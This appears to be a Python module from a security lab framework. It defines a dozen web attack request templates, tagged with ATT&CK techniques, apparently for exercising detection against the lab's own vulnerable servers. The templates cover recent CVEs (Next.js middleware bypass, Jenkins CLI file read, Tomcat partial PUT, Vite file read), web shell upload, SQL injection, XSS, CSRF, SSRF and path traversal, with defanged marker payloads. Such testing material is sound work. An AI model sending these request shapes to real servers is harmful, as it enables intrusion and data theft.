"""The published method's means against web applications. Each request shows what the public exchange looks like.

No request here would open anything but our own weak servers: file names, charsets, header values and object streams
are the lab's markers.
"""

from __future__ import annotations

from .kit import CREDENTIAL_ACCESS, DISCOVERY, EXECUTION, INITIAL_ACCESS, PERSISTENCE
from .web import Request, WebMeans

MARKER = "secloop-lab"
FORM = (("Content-Type", "application/x-www-form-urlencoded"),)
SHELL_PART = (
    '--lab\r\nContent-Disposition: form-data; name="file"; filename="lab.php"\r\n'
    f"Content-Type: image/png\r\n\r\n<?php /* {MARKER} */ ?>\r\n--lab--\r\n"
)


class NextjsMiddlewareBypass(WebMeans):
    """After CVE-2025-29927: an inner header, sent from outside, skips the check of the session."""

    id = "nextjs-middleware-bypass"
    about = "Next.js middleware told to step aside by an internal header (after CVE-2025-29927)"
    tactic = INITIAL_ACCESS
    technique = "T1190"
    service_kinds = ("nextjs",)
    requests = (Request(target="/dashboard", headers=(("x-middleware-subrequest", MARKER),)),)
    sid = 9001010


class UploadWebShell(WebMeans):
    """A picture that ends in .php is uploaded and then called."""

    id = "upload-web-shell"
    about = "A script uploaded as a picture, and called"
    tactic = EXECUTION
    technique = "T1059"
    requests = (
        Request(
            method="POST",
            target="/upload",
            headers=(("Content-Type", "multipart/form-data; boundary=lab"),),
            body=SHELL_PART,
        ),
        Request(target="/uploads/lab.php?cmd=lab-flag"),
    )
    sid = 9001011


class UnsafeDeserialisation(WebMeans):
    """The head of a Java object stream, and no object."""

    id = "unsafe-deserialisation"
    about = "A serialised object where a session is expected"
    tactic = EXECUTION
    technique = "T1059"
    requests = (
        Request(
            method="POST",
            target="/session",
            headers=(("Content-Type", "application/x-java-serialized-object"),),
            body=f"rO0ABXQA{MARKER}",
        ),
    )
    sid = 9001012


class JenkinsCliFileRead(WebMeans):
    """After CVE-2024-23897: a command line argument that starts with @ is replaced by a file."""

    id = "jenkins-cli-file-read"
    about = "Jenkins CLI expands an @file argument (after CVE-2024-23897)"
    tactic = EXECUTION
    technique = "T1059"
    service_kinds = ("jenkins",)
    requests = (
        Request(
            method="POST",
            target="/cli?remoting=false",
            headers=(("Session", "5ec1009a-0000-4000-8000-000000000001"), ("Side", "upload")),
            body="help @/lab/flag",
        ),
    )
    sid = 9001013


class TomcatPartialPut(WebMeans):
    """After CVE-2025-24813: part of a file is put, and then named as a session."""

    id = "tomcat-partial-put"
    about = "Tomcat takes part of a file and loads it as a session (after CVE-2025-24813)"
    tactic = EXECUTION
    technique = "T1059"
    service_kinds = ("tomcat",)
    requests = (
        Request(
            method="PUT",
            target="/lab/session",
            headers=(("Content-Range", "bytes 0-10/1200"),),
            body=MARKER,
        ),
        Request(target="/index.jsp", headers=(("Cookie", "JSESSIONID=.lab"),)),
    )
    sid = 9001014


class WebShellStageTwo(WebMeans):
    """The shell that was planted earlier is told to bring in the rest."""

    id = "web-shell-stage-two"
    about = "A planted shell fetches its second stage"
    tactic = PERSISTENCE
    technique = "T1505.003"
    needs = ("upload-web-shell", "redis-webroot-write", "tomcat-partial-put")
    requests = (Request(method="POST", target="/uploads/lab.php", headers=FORM, body=f"stage=2&z0={MARKER}"),)
    sid = 9001015


class PhpFilterChain(WebMeans):
    """After CVE-2024-2961: a chain of stream filters; its charset is none."""

    id = "php-filter-chain"
    about = "A chain of php://filter conversions in a parameter (after CVE-2024-2961)"
    tactic = PERSISTENCE
    technique = "T1505.003"
    requests = (
        Request(target="/index.php?page=php://filter/convert.iconv.LAB.MARKER|convert.iconv.LAB.NONE/resource=lab"),
    )
    sid = 9001016


class XssCookieTheft(WebMeans):
    """A stored comment carries a script; the server plays the administrator who reads it and leaves the cookie."""

    id = "xss-cookie-theft"
    about = "A stored script takes the administrator's cookie"
    tactic = CREDENTIAL_ACCESS
    technique = "T1539"
    requests = (
        Request(
            method="POST",
            target="/comments",
            headers=FORM,
            body="text=<script>labMarker(document.cookie)</script>",
        ),
        Request(target="/comments"),
    )
    sid = 9001017


class Csrf(WebMeans):
    """A change of account that comes from another site, with the victim's session."""

    id = "csrf"
    about = "A foreign page changes the account of whoever opens it"
    tactic = CREDENTIAL_ACCESS
    technique = "T1185"
    requests = (
        Request(
            method="POST",
            target="/account/email",
            headers=(*FORM, ("Origin", "http://lure.example"), ("Cookie", "session=victim")),
            body="email=lab%40lure.example",
        ),
    )
    sid = 9001018


class SqlInjection(WebMeans):
    """A UNION that no database but the lab's would answer."""

    id = "sql-injection"
    about = "UNION SELECT in a query parameter"
    tactic = DISCOVERY
    technique = "T1190"
    requests = (Request(target="/items?id=0%27%20UNION%20SELECT%20flag%20FROM%20secloop_lab--%20"),)
    sid = 9001019


class FileInclusion(WebMeans):
    """Dots and slashes in a file parameter."""

    id = "file-inclusion"
    about = "Path traversal in a file parameter"
    tactic = DISCOVERY
    technique = "T1083"
    requests = (Request(target="/view?file=../../../../lab/flag"),)
    sid = 9001020


class Ssrf(WebMeans):
    """The server is asked to fetch from the address of a cloud's metadata service; ours never fetches."""

    id = "ssrf"
    about = "The server is made to ask an inner address"
    tactic = DISCOVERY
    technique = "T1046"
    requests = (Request(target="/fetch?url=http://169.254.169.254/lab/flag"),)
    sid = 9001021


class ViteFileRead(WebMeans):
    """After CVE-2025-30208: a raw query on the development server's file route."""

    id = "vite-file-read"
    about = "Vite's development server hands out a file by @fs and a raw query (after CVE-2025-30208)"
    tactic = DISCOVERY
    technique = "T1083"
    service_kinds = ("vite",)
    requests = (Request(target="/@fs/lab/flag?raw-lab??"),)
    sid = 9001022
